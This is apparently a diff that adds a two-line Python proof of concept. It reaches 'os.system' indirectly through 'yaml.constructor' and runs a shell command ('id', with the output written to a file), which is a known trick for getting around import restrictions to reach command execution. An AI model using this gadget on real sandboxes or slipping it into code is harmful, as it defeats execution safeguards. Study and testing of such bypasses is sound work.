@@ -1,0 +1,2 @@
+import yaml.constructor as c
+c.sys.modules["os"].system("id>pf")
